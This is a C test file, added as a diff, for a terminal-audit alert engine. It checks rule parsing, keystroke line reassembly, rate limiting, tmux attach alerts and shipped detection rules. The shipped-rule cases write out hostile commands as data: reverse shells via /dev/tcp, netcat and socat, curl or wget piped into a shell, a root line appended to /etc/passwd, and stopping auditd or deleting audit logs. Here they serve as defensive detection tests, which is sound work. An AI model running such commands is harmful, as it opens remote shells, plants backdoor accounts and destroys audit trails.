@@ -1,0 +1,475 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/* Alert rules: the file's errors, line reassembly, rate limits, the shipped rules. */
+#include <errno.h>
+#include <stdio.h>
+#include <sys/stat.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "alerts/alerts.h"
+#include "alerts/deliver.h"
+#include "check.h"
+
+#define MAX_HITS 64
+
+struct hits {
+	int n;
+	char rule[MAX_HITS][64];
+	char subject[MAX_HITS][TA_ALERT_LINE_MAX + 1];
+	uint64_t suppressed[MAX_HITS];
+	bool summary[MAX_HITS], cut[MAX_HITS];
+	char audit[MAX_HITS][4096];
+};
+
+static void on_hit(void *ctx, const struct ta_alert_hit *h)
+{
+	struct hits *hs = ctx;
+
+	if (hs->n >= MAX_HITS)
+		return;
+	snprintf(hs->rule[hs->n], sizeof(hs->rule[0]), "%s", h->rule);
+	snprintf(hs->subject[hs->n], sizeof(hs->subject[0]), "%.*s", (int)h->subject_len,
+		 h->subject);
+	hs->suppressed[hs->n] = h->suppressed;
+	hs->summary[hs->n] = h->summary;
+	hs->cut[hs->n] = h->subject_cut;
+	if (ta_alert_audit_format(hs->audit[hs->n], sizeof(hs->audit[0]), h) < 0)
+		hs->audit[hs->n][0] = '\0';
+	hs->n++;
+}
+
+static struct ta_alert_rules *parse(const char *text, char *err)
+{
+	struct ta_alert_rules *rs = NULL;
+
+	if (ta_alert_rules_parse(&rs, "rules.conf", text, strlen(text), "/var/log/ttyaudit", err,
+				 512))
+		return NULL;
+	return rs;
+}
+
+static void expect_error(const char *text, const char *want)
+{
+	char err[512];
+	struct ta_alert_rules *rs = parse(text, err);
+
+	CHECK(rs == NULL);
+	ta_alert_rules_free(rs);
+	if (!strstr(err, want))
+		fprintf(stderr, "error was: %s\nwanted: %s\n", err, want);
+	CHECK(strstr(err, want) != NULL);
+}
+
+static void test_errors(void)
+{
+	expect_error("rule = a\non = exec\nargv = x\nbogus = 1\n", "rules.conf:4: unknown key 'bogus'");
+	expect_error("on = exec\n", "rules.conf:1: on: before the first 'rule = NAME'");
+	expect_error("rule = a\non = exec\nargv = (x\n", "rules.conf:3: argv: bad regular expression");
+	expect_error("rule = a\non = input\nline = (a)\\1\n", "rules.conf:3: line: back-references");
+	expect_error("rule = a\nargv = x\nrule = b\n", "rules.conf:1: rule: 'a' has no 'on'");
+	expect_error("rule = a\non = exec\nargv = x\n\nrule = a\n", "rules.conf:5: rule: 'a' defined "
+		     "again (first on line 1)");
+	expect_error("rule = a\non = input\n", "rules.conf:1: rule: 'a': on = input needs a line");
+	expect_error("rule = a\non = exec\nline = x\n", "rules.conf:1: rule: 'a': line needs on = "
+		     "input");
+	expect_error("rule = a\non = exec\nargv = x\nargv = y\n", "rules.conf:4: argv: set again in "
+		     "rule 'a' (first set on line 3)");
+	expect_error("rule = a\non = footprint\n", "rules.conf:2: on: footprint events");
+	expect_error("rule = a\non = exec\nargv = x\nrate = 0/1m\n", "rules.conf:4: rate:");
+	expect_error("rule = a\non = exec\nargv = x\nseverity = urgent\n", "rules.conf:4: severity:");
+	expect_error("rule = a b\n", "rules.conf:1: rule: 'a b': names hold");
+	expect_error("rule = a\non = session\n", "'a': on = session needs auid or no_login");
+	expect_error("rule = a\non = exec\nargv = x\nauid = x\n", "rules.conf:4: auid:");
+	expect_error("rule = a\non = input\nline = x\nother_user = yes\n",
+		     "'a': other_user needs on = exec or on = attach");
+	expect_error("rule = a\non = watch\n", "rules.conf:2: on: 'watch' is not");
+}
+
+/* The file: the configuration's checks (mode, presence). */
+static void test_file(void)
+{
+	char path[] = "/tmp/ta-alerts-rules-XXXXXX", err[512];
+	struct ta_alert_rules *rs = NULL;
+	int fd = mkstemp(path);
+	static const char text[] = "rule = a\non = exec\nargv = ^x\n";
+
+	CHECK(fd >= 0 && write(fd, text, sizeof(text) - 1) == (ssize_t)(sizeof(text) - 1));
+	close(fd);
+	CHECK_EQ_INT(ta_alert_rules_load(&rs, path, false, NULL, err, sizeof(err)), 0);
+	CHECK_EQ_INT(ta_alert_rules_count(rs), 1);
+	ta_alert_rules_free(rs);
+	chmod(path, 0666);
+	CHECK_EQ_INT(ta_alert_rules_load(&rs, path, false, NULL, err, sizeof(err)), -EPERM);
+	CHECK(strstr(err, "writable by group or others") != NULL);
+	unlink(path);
+	CHECK_EQ_INT(ta_alert_rules_load(&rs, path, false, NULL, err, sizeof(err)), -ENOENT);
+	CHECK_EQ_INT(ta_alert_rules_load(&rs, path, true, NULL, err, sizeof(err)), 0);
+	CHECK_EQ_INT(ta_alert_rules_count(rs), 0);
+	ta_alert_rules_free(rs);
+}
+
+static struct ta_event tty_ev(uint16_t kind, const char *data, uint32_t minor)
+{
+	struct ta_event ev = { .kind = kind };
+
+	ev.tty.major = 136;
+	ev.tty.minor = minor;
+	snprintf(ev.tty.name, sizeof(ev.tty.name), "pts%u", minor);
+	ev.task.uid = 1000;
+	ev.task.auid = ev.owner_auid = 1000;
+	ev.task.ses = ev.owner_ses = 7;
+	ev.task.tgid = ev.task.pid = 4242;
+	snprintf(ev.task.comm, sizeof(ev.task.comm), "bash");
+	ev.data = (const uint8_t *)data;
+	ev.len = (uint32_t)strlen(data);
+	return ev;
+}
+
+static void feed(struct ta_alert_engine *e, uint16_t kind, const char *data, uint32_t minor,
+		 uint64_t t)
+{
+	struct ta_event ev = tty_ev(kind, data, minor);
+
+	ta_alert_engine_feed(e, &ev, t);
+}
+
+static void feed_exec(struct ta_alert_engine *e, const char *path, const char *argv, size_t n,
+		      uint32_t uid, uint32_t auid, uint32_t ses)
+{
+	struct ta_event ev = tty_ev(TA_EV_EXEC, "", 1);
+
+	ev.filename = path;
+	ev.argv = (const uint8_t *)argv;
+	ev.argv_len = (uint32_t)n;
+	ev.task.uid = uid;
+	ev.task.auid = auid;
+	ev.task.ses = ses;
+	ta_alert_engine_feed(e, &ev, 1000);
+}
+
+static void test_lines(void)
+{
+	static const char rules[] =
+		"rule = typed\non = input\nline = ^rm -rf /$\n"
+		"rule = shown\non = output\nline = ^SECRET-[0-9]+$\n";
+	struct hits *hs = calloc(1, sizeof(*hs));
+	struct ta_alert_engine *e;
+	char err[512];
+
+	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
+	ta_alert_engine_set_rules(e, parse(rules, err));
+	CHECK_EQ_INT(ta_alert_engine_rule_count(e), 2);
+	/* typed one key at a time, across chunks, with a typo corrected */
+	feed(e, TA_EV_TTY_INPUT, "rm -rf", 1, 10);
+	feed(e, TA_EV_TTY_INPUT, " /x\x7f", 1, 11);
+	CHECK_EQ_INT(hs->n, 0);   /* no Enter yet */
+	/* another terminal's keys do not join this line */
+	feed(e, TA_EV_TTY_INPUT, "zzz", 2, 12);
+	feed(e, TA_EV_TTY_INPUT, "\r", 1, 13);
+	CHECK_EQ_INT(hs->n, 1);
+	CHECK_EQ_STR(hs->rule[0], "typed");
+	CHECK_EQ_STR(hs->subject[0], "rm -rf /");
+	/* ^U abandons a line; arrows are no text */
+	feed(e, TA_EV_TTY_INPUT, "rm -rf /\x15ls\x1b[A\r", 1, 14);
+	CHECK_EQ_INT(hs->n, 1);
+	/* output split in the middle of the word, with colours, ends at \n */
+	feed(e, TA_EV_TTY_OUTPUT, "\x1b[31mSECR", 1, 15);
+	feed(e, TA_EV_TTY_OUTPUT, "ET-42\x1b[0m\r", 1, 16);
+	CHECK_EQ_INT(hs->n, 1);
+	feed(e, TA_EV_TTY_OUTPUT, "\n", 1, 17);
+	CHECK_EQ_INT(hs->n, 2);
+	CHECK_EQ_STR(hs->rule[1], "shown");
+	CHECK_EQ_STR(hs->subject[1], "SECRET-42");
+	/* a chunk holding two lines matches neither half-line wrongly */
+	feed(e, TA_EV_TTY_OUTPUT, "xSECRET-1\nSECRET-2\n", 1, 18);
+	CHECK_EQ_INT(hs->n, 3);
+	CHECK_EQ_STR(hs->subject[2], "SECRET-2");
+	/* an endless line is cut, not grown, and still ends */
+	{
+		char *big = malloc(100000);
+
+		memset(big, 'A', 99999);
+		big[99999] = '\0';
+		feed(e, TA_EV_TTY_OUTPUT, big, 1, 19);
+		feed(e, TA_EV_TTY_OUTPUT, "\nSECRET-3\n", 1, 20);
+		free(big);
+	}
+	CHECK_EQ_INT(hs->n, 4);
+	CHECK_EQ_STR(hs->subject[3], "SECRET-3");
+	ta_alert_engine_free(e);
+	free(hs);
+}
+
+static void test_exec_and_session(void)
+{
+	static const char rules[] =
+		"rule = su\non = exec\npath = (^|/)su$\nargv = ^su -$\n"
+		"rule = other\non = exec\nother_user = yes\nuid = 0\n"
+		"rule = nologin\non = session\nno_login = yes\n"
+		"rule = tamper\non = exec\nargv = ${log_dir}/\nunless = /keep$\n";
+	struct hits *hs = calloc(1, sizeof(*hs));
+	struct ta_alert_engine *e;
+	struct ta_event ev;
+	char err[512];
+
+	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
+	ta_alert_engine_set_rules(e, parse(rules, err));
+	feed_exec(e, "/usr/bin/su", "su\0-\0", 5, 1000, 1000, 7);
+	CHECK_EQ_INT(hs->n, 1);
+	CHECK_EQ_STR(hs->rule[0], "su");
+	CHECK_EQ_STR(hs->subject[0], "su -");
+	CHECK(strstr(hs->audit[0], "op=ttyaudit-alert rule=\"su\"") == hs->audit[0]);
+	CHECK(strstr(hs->audit[0], " ses=7 auid=1000 ") != NULL);
+	/* running as root after logging in as 1000 */
+	feed_exec(e, "/usr/bin/id", "id\0", 3, 0, 1000, 7);
+	CHECK_EQ_INT(hs->n, 2);
+	CHECK_EQ_STR(hs->rule[1], "other");
+	/* root who logged in as root is not "another user" */
+	feed_exec(e, "/usr/bin/id", "id\0", 3, 0, 0, 8);
+	CHECK_EQ_INT(hs->n, 2);
+	/* ${log_dir} is the daemon's directory, dots escaped */
+	feed_exec(e, "/bin/rm", "rm\0/var/log/ttyaudit/seg\0", 25, 0, 0, 8);
+	CHECK_EQ_INT(hs->n, 3);
+	feed_exec(e, "/bin/rm", "rm\0/var/log/ttyauditXseg/x\0", 27, 0, 0, 8);
+	feed_exec(e, "/bin/rm", "rm\0/var/log/ttyaudit/keep\0", 26, 0, 0, 8);
+	CHECK_EQ_INT(hs->n, 3);
+	/* a terminal without a login session: once per session */
+	ev = tty_ev(TA_EV_TTY_OUTPUT, "hello\n", 3);
+	ev.task.ses = TA_SES_NO_LOGIN | 99;
+	ta_alert_engine_feed(e, &ev, 2000);
+	ta_alert_engine_feed(e, &ev, 2001);
+	CHECK_EQ_INT(hs->n, 4);
+	CHECK_EQ_STR(hs->rule[3], "nologin");
+	ta_alert_engine_free(e);
+	free(hs);
+}
+
+static void test_rate_limit(void)
+{
+	static const char rules[] = "rule = r\non = input\nline = boom\nrate = 2/10s\n";
+	struct hits *hs = calloc(1, sizeof(*hs));
+	struct ta_alert_engine *e;
+	struct ta_alert_stats st;
+	char err[512];
+	uint64_t s = 1000000000ull;
+
+	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
+	ta_alert_engine_set_rules(e, parse(rules, err));
+	for (int i = 0; i < 5; i++)
+		feed(e, TA_EV_TTY_INPUT, "boom\r", 1, 100 * s + (uint64_t)i);
+	CHECK_EQ_INT(hs->n, 2);
+	ta_alert_engine_tick(e, 101 * s);   /* not a whole token back yet */
+	CHECK_EQ_INT(hs->n, 2);
+	ta_alert_engine_tick(e, 106 * s);   /* one back: the count of what was dropped */
+	CHECK_EQ_INT(hs->n, 3);
+	CHECK(hs->summary[2]);
+	CHECK_EQ_INT(hs->suppressed[2], 3);
+	ta_alert_engine_tick(e, 200 * s);
+	CHECK_EQ_INT(hs->n, 3);             /* said once */
+	feed(e, TA_EV_TTY_INPUT, "boom\r", 1, 201 * s);
+	CHECK_EQ_INT(hs->n, 4);
+	CHECK_EQ_INT(hs->suppressed[3], 0);
+	ta_alert_engine_stats(e, &st);
+	CHECK_EQ_INT(st.suppressed, 3);
+	ta_alert_engine_free(e);
+	free(hs);
+}
+
+static void attach_hook(void *ctx, const struct ta_shared_attach *a)
+{
+	ta_alert_engine_attach(ctx, a);
+}
+
+static void unix_ev(struct ta_shared_tracker *t, uint32_t op, uint32_t pid, uint32_t auid,
+		    uint32_t ses, const char *comm, int pts_n, uint64_t ns)
+{
+	static const char sock[] = "/tmp/tmux-1001/default";
+	struct ta_event ev = tty_ev(TA_EV_UNIX_SOCKET, "", (uint32_t)(pts_n < 0 ? 0 : pts_n));
+
+	if (pts_n < 0)
+		memset(&ev.tty, 0, sizeof(ev.tty));
+	ev.task.pid = ev.task.tgid = pid;
+	ev.task.uid = ev.task.auid = auid;
+	ev.task.ses = ses;
+	snprintf(ev.task.comm, sizeof(ev.task.comm), "%s", comm);
+	ev.unix_op = op;
+	ev.path = sock;
+	ev.path_len = sizeof(sock) - 1;
+	ev.ts_boot_ns = ns;
+	ta_shared_observe(t, &ev, 1000000 + ns, NULL, NULL);
+}
+
+/* Shared terminals: attaches come from the real tracker, typed, not from its JSON. */
+static void test_attach(void)
+{
+	static const char rules[] = "rule = other-attach\non = attach\nother_user = yes\n";
+	struct hits *hs = calloc(1, sizeof(*hs));
+	struct ta_shared_tracker *t;
+	struct ta_alert_engine *e;
+	char err[512];
+
+	CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
+	ta_alert_engine_set_rules(e, parse(rules, err));
+	CHECK(ta_shared_tracker_new(&t) == 0);
+	ta_shared_set_attach_hook(t, attach_hook, e);
+	unix_ev(t, TA_UNIX_BIND, 700, 1001, 10, "tmux: server", -1, 1000);
+	unix_ev(t, TA_UNIX_CONNECT, 710, 1001, 10, "tmux: client", 0, 2000);   /* alice, her own */
+	CHECK_EQ_INT(hs->n, 0);
+	unix_ev(t, TA_UNIX_CONNECT, 720, 1002, 20, "tmux: client", 1, 3000);   /* bob joins */
+	CHECK_EQ_INT(hs->n, 1);
+	CHECK_EQ_STR(hs->rule[0], "other-attach");
+	CHECK(strstr(hs->subject[0], "/tmp/tmux-1001/default (server auid 1001)") != NULL);
+	CHECK(strstr(hs->audit[0], " ses=20 auid=1002 ") != NULL);
+	ta_shared_tracker_free(t);
+	ta_alert_engine_free(e);
+	free(hs);
+}
+
+/* Delivery runs on its own thread; close delivers what is queued. */
+static void test_delivery(void)
+{
+	char path[] = "/tmp/ta-alerts-jsonl-XXXXXX", line[4096];
+	struct ta_alert_hit h = { .rule = "r", .severity = "low", .description = "",
+				  .on = TA_ALERT_ON_INPUT, .subject = "x \"y\"", .subject_len = 5 };
+	struct ta_alert_out_status st;
+	struct ta_alert_out *o;
+	struct ta_json j;
+	int fd = mkstemp(path), lines = 0;
+	FILE *f;
+
+	CHECK(fd >= 0);
+	close(fd);
+	CHECK_EQ_INT(ta_alert_out_open(&o, false, path, false), 0);
+	ta_json_init(&j);
+	for (int i = 0; i < 50; i++) {
+		h.pid = (uint32_t)i;
+		ta_json_reset(&j);
+		ta_alert_to_json(&j, &h);
+		CHECK_EQ_INT(ta_alert_out_send(o, &h, &j), 0);
+	}
+	ta_alert_out_status(o, &st);
+	CHECK_EQ_INT(st.dropped, 0);
+	ta_alert_out_close(o);
+	ta_json_free(&j);
+	f = fopen(path, "r");
+	CHECK(f != NULL);
+	while (f && fgets(line, sizeof(line), f)) {
+		CHECK(strstr(line, "\"subject\":\"x \\\"y\\\"\"") != NULL);
+		lines++;
+	}
+	if (f)
+		fclose(f);
+	CHECK_EQ_INT(lines, 50);
+	unlink(path);
+}
+
+/* Each shipped rule fires on what it is for, and not on its look-alike. */
+static void test_shipped(const char *path)
+{
+	static const struct {
+		const char *input;   /* typed, or NULL */
+		const char *path;    /* exec */
+		const char *argv;    /* exec, spaces become NULs */
+		const char *rule;    /* NULL: nothing fires */
+	} cases[] = {
+		{ NULL, "/usr/bin/sudo", "sudo -i", "privilege-escalation" },
+		{ NULL, "/usr/bin/pkexec", "pkexec bash", "privilege-escalation" },
+		{ NULL, "/usr/bin/sudoedit", "sudoedit x", NULL },
+		{ NULL, "/usr/bin/vim", "vim /etc/sudoers", "auth-files-edited" },
+		{ NULL, "/usr/bin/tee", "tee -a /etc/passwd", "auth-files-edited" },
+		{ NULL, "/usr/bin/vim", "vim /etc/passwd.bak", NULL },
+		{ NULL, "/bin/sed", "sed -i s/x/y/ /etc/shadow", "auth-files-sed-in-place" },
+		{ NULL, "/bin/sed", "sed -n 1p /etc/shadow", NULL },
+		{ "echo 'x::0:0::/:/bin/sh' >> /etc/passwd", NULL, NULL, "auth-files-redirect" },
+		{ "cat /etc/passwd > /tmp/p", NULL, NULL, NULL },
+		{ NULL, "/usr/bin/systemctl", "systemctl stop auditd", "audit-stopped" },
+		{ NULL, "/usr/bin/systemctl", "systemctl disable --now ttyauditd.service", "audit-stopped" },
+		{ NULL, "/usr/bin/systemctl", "systemctl status auditd", NULL },
+		{ NULL, "/usr/bin/pkill", "pkill -9 ttyauditd", "audit-killed" },
+		{ NULL, "/sbin/auditctl", "auditctl -e 0", "audit-rules-disabled" },
+		{ NULL, "/sbin/auditctl", "auditctl -l", NULL },
+		{ "curl -fsSL https://x.example/i.sh | sudo bash", NULL, NULL, "download-to-shell" },
+		{ "wget -qO- http://x.example/a | sh", NULL, NULL, "download-to-shell" },
+		{ "curl -o f https://x.example/ | shasum", NULL, NULL, NULL },
+		{ "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", NULL, NULL, "reverse-shell-dev-tcp" },
+		{ "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", NULL, NULL, NULL },
+		{ "nc -e /bin/sh 203.0.113.9 4444", NULL, NULL, "reverse-shell-netcat" },
+		{ "nc -l 4444", NULL, NULL, NULL },
+		{ "socat tcp:203.0.113.9:4444 exec:/bin/sh", NULL, NULL, "reverse-shell-socat" },
+		{ NULL, "/usr/bin/chattr", "chattr -a /var/log/ttyaudit/x.seg", "log-append-only-cleared" },
+		{ NULL, "/usr/bin/chattr", "chattr +a /var/log/ttyaudit/x.seg", NULL },
+		{ NULL, "/bin/rm", "rm -rf /var/log/ttyaudit", "log-removed" },
+		{ NULL, "/bin/rm", "rm -rf /var/log/ttyaudit-old", NULL },
+	};
+	struct ta_alert_rules *rs = NULL;
+	char err[512], *text = malloc(1 << 20);
+	FILE *f = fopen(path, "r");
+	size_t len = f && text ? fread(text, 1, 1 << 20, f) : 0;
+
+	/* As text: the checkout's mode follows the umask, the file checks are tested above. */
+	if (f)
+		fclose(f);
+	CHECK(len > 0);
+	CHECK(ta_alert_rules_parse(&rs, path, text, len, "/var/log/ttyaudit", err,
+				   sizeof(err)) == 0);
+	if (!rs) {
+		fprintf(stderr, "%s\n", err);
+		free(text);
+		return;
+	}
+	CHECK(ta_alert_rules_count(rs) >= 12);
+	ta_alert_rules_free(rs);
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct hits *hs = calloc(1, sizeof(*hs));
+		struct ta_alert_engine *e;
+
+		CHECK(ta_alert_engine_new(&e, on_hit, hs) == 0);
+		CHECK(ta_alert_rules_parse(&rs, path, text, len, "/var/log/ttyaudit", err,
+					   sizeof(err)) == 0);
+		ta_alert_engine_set_rules(e, rs);
+		if (cases[i].input) {
+			feed(e, TA_EV_TTY_INPUT, cases[i].input, 1, 1);
+			feed(e, TA_EV_TTY_INPUT, "\r", 1, 2);
+		} else {
+			char argv[256];
+			size_t n = strlen(cases[i].argv) + 1;
+
+			memcpy(argv, cases[i].argv, n);
+			for (size_t k = 0; k < n; k++)
+				if (argv[k] == ' ')
+					argv[k] = '\0';
+			feed_exec(e, cases[i].path, argv, n, 1000, 1000, 7);
+		}
+		if (cases[i].rule) {
+			CHECK_EQ_INT(hs->n, 1);
+			if (hs->n != 1 || strcmp(hs->rule[0], cases[i].rule))
+				fprintf(stderr, "case %zu (%s): got %d hits, first %s\n", i,
+					cases[i].input ? cases[i].input : cases[i].argv, hs->n,
+					hs->n ? hs->rule[0] : "-");
+			CHECK_EQ_STR(hs->n ? hs->rule[0] : "", cases[i].rule);
+		} else {
+			if (hs->n)
+				fprintf(stderr, "case %zu (%s): unexpected %s\n", i,
+					cases[i].input ? cases[i].input : cases[i].argv, hs->rule[0]);
+			CHECK_EQ_INT(hs->n, 0);
+		}
+		ta_alert_engine_free(e);
+		free(hs);
+	}
+	free(text);
+}
+
+int main(int argc, char **argv)
+{
+	test_errors();
+	test_file();
+	test_lines();
+	test_exec_and_session();
+	test_rate_limit();
+	test_attach();
+	test_delivery();
+	if (argc > 1)
+		test_shipped(argv[1]);
+	return check_result();
+}
